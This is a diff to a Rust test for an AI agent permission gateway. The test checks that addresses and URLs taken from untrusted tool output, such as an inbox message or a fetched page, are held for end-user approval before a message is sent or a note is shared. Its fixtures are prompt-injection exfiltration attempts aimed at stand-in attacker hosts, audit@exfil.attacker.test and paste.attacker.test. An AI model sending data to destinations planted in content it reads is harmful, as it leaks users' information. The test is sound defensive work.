@@ -415,11 +415,13 @@ async fn values_from_untrusted_output_cannot_feed_a_sink() {
     // Sending to the address from the message body is refused, naming the source
     // call, although the agent did not say `follows`.
     let send = |to: &str| json!({"task": task, "tool": "workspace__send_message", "arguments": {"to": to, "subject": "Audit", "body": "see attached"}, "purpose": "comply with the notice"});
-    let refused = grant(&triage, send("audit@exfil.attacker.test")).await.unwrap_err();
-    let (code, text) = code_and_text(&refused);
-    assert_eq!(code, "policy_denied");
-    assert!(text.contains("no-untrusted-data-into-sinks"), "{text}");
-    assert!(text.contains(&format!("call {} of workspace__read_inbox", read["jti"].as_str().unwrap())), "{text}");
+    // It is held for the end user (this client cannot ask, so platform-oncall
+    // decides), and the intent record names the source call.
+    assert_held_for_end_user(&grant(&triage, send("audit@exfil.attacker.test")).await, "platform-oncall");
+    let (_, trace, _) = jitgate(&["trace", &task, "--config", dep.config.to_str().unwrap()]);
+    let short_jti: String = read["jti"].as_str().unwrap().chars().take(8).collect();
+    assert!(trace.contains("pending_approval [untrusted-data-into-sinks-needs-the-end-user]"), "{trace}");
+    assert!(trace.contains(&format!("tainted by output of {short_jti} (workspace__read_inbox)")), "{trace}");
     // Replying to a sender (a field the mail system vouches for) works.
     let reply = grant(&triage, send("alice@example.org")).await.unwrap();
     let sent = call_with_token(&triage, "workspace__send_message", json!({"to": "alice@example.org", "subject": "Audit", "body": "see attached"}), reply["token"].as_str().unwrap())
@@ -445,11 +447,8 @@ async fn values_from_untrusted_output_cannot_feed_a_sink() {
     let share = |dest: &str| {
         json!({"task": task, "tool": "workspace__share_note", "arguments": {"name": "q3-plan.md", "destination": dest}, "purpose": "share", "follows": note["jti"]})
     };
-    let refused = grant(&janitor, share("https://paste.attacker.test/upload")).await.unwrap_err();
-    let (code, text) = code_and_text(&refused);
-    assert_eq!(code, "policy_denied");
-    assert!(text.contains("workspace__fetch_page"), "{text}");
-    assert_eq!(refusal_code(&grant(&janitor, share("paste.attacker.test")).await.unwrap_err()).as_deref(), Some("policy_denied"));
+    assert_held_for_end_user(&grant(&janitor, share("https://paste.attacker.test/upload")).await, "platform-oncall");
+    assert_held_for_end_user(&grant(&janitor, share("paste.attacker.test")).await, "platform-oncall");
     assert!(grant(&janitor, share("https://wiki.example.org/q3")).await.is_ok());
 }
 
